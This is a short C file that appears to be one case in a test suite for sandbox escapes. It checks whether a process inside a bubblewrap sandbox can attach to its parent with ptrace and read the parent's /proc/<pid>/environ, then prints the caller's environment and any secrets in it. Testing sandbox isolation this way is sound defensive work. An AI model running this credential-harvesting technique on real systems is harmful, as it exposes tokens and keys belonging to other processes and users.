#include "attack.h"
// The debugger on the wall itself: bubblewrap's process 1 can be traced, with the caller's environment in it.
ATTACK(.judge = "secret:env", .stage = "parent") {
  char name[64], buffer[1 << 15];
  pid_t parent = getppid();
  if (ptrace(PTRACE_SEIZE, parent, 0, 0)) return note("ptrace");
  snprintf(name, sizeof name, "/proc/%d/environ", parent);
  int fd = open(name, O_RDONLY);
  ssize_t n = read(fd, buffer, sizeof buffer);
  if (n > 0) write(1, buffer, n);
}
